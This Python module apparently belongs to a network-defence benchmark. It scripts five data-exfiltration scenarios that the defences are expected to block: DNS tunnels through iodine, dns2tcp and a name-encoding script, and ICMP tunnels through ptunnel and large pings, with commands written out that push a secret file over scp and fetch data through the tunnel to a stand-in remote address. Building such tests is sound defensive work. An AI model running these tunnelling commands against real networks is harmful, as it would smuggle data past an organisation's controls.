"""Ways out of a customer's network inside of what is let through: names and pings."""
from __future__ import annotations

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.place import OFFICE, RESOLVER, SERVER, Place
from benchmarks.attacks.servers import TUNNEL, nginx, resolver, sshd

FAR = "203.0.113.54"


def iodine(place: Place) -> None:
    """Pages through a tunnel of iodine, by the resolver."""
    place.serve(resolver, "server")
    place.serve(nginx, "server")
    place.start("server", ["iodined", "-f", "-c", "-l", FAR, "-n", FAR, "-P", "secret", "10.9.0.1/24", TUNNEL], udp=53)
    place.begins()
    place.start("office", ["iodine", "-f", "-r", "-P", "secret", RESOLVER, TUNNEL])
    place.fails("office", ["sh", "-c", "for k in $(seq 100); do ip -o address | grep -q 10.9.0 && break; sleep 0.2; done; sleep 2; "
                           "for k in $(seq 10); do curl -s -m 20 -o /dev/null http://10.9.0.1/picture.bin; sleep 2; done"], 80)


def dns2tcp(place: Place) -> None:
    """A file by ssh through dns2tcp, by the resolver."""
    place.serve(resolver, "server")
    options = place.serve(sshd, "server")
    config = place.folder / "dns2tcpd"
    config.write_text(f"listen = {FAR}\nport = 53\nuser = root\nchroot = {place.folder}\ndomain = {TUNNEL}\nresources = ssh:{SERVER}:22\n")
    place.start("server", ["dns2tcpd", "-F", "-f", config], udp=53)
    (place.folder / "secret.bin").write_bytes(bytes(range(256)) * 200)
    place.begins()
    place.start("office", ["dns2tcpc", "-z", TUNNEL, "-r", "ssh", "-l", "2222", RESOLVER], tcp=2222)
    for one in range(4):
        place.fails("office", ["scp", "-P", "2222", *options, place.folder / "secret.bin", f"root@127.0.0.1:{place.folder}/out{one}.bin"], 30)


def spelled(place: Place) -> None:
    """A file said in names, to a zone nobody answers for."""
    place.serve(resolver, "server")
    place.begins()
    place.fails("office", [*place.script("callers", "spelled", RESOLVER, "drop.example.net", 600, 20)], 60)


def ptunnel(place: Place) -> None:
    """ssh through ptunnel: TCP in echo requests and answers."""
    options = place.serve(sshd, "server")
    place.start("server", ["ptunnel", "-c", "eth0"])
    place.begins()
    place.start("office", ["ptunnel", "-p", SERVER, "-lp", "2222", "-da", SERVER, "-dp", "22"], tcp=2222)
    place.fails("office", ["ssh", "-p", "2222", *options, "root@127.0.0.1", "head -c 300000 /dev/urandom | base64"], 60)


def echoes(place: Place) -> None:
    """Large pings of ever new content, both ways."""
    place.begins()
    place.fails("office", [*place.script("callers", "echoes", SERVER, 600, 20, 1000)], 60)


ATTACKS = (
    Attack("tunnel-iodine", ("dns_tunnel",), OFFICE, "", 120, iodine, "iodine"),
    Attack("tunnel-dns2tcp", ("dns_tunnel",), OFFICE, "", 120, dns2tcp, "dns2tcp"),
    Attack("tunnel-spelled", ("dns_tunnel",), OFFICE, "", 120, spelled, "script"),
    Attack("tunnel-ptunnel", ("icmp_tunnel",), OFFICE, SERVER, 120, ptunnel, "ptunnel"),
    Attack("tunnel-echoes", ("icmp_tunnel",), OFFICE, SERVER, 120, echoes, "script"),
)
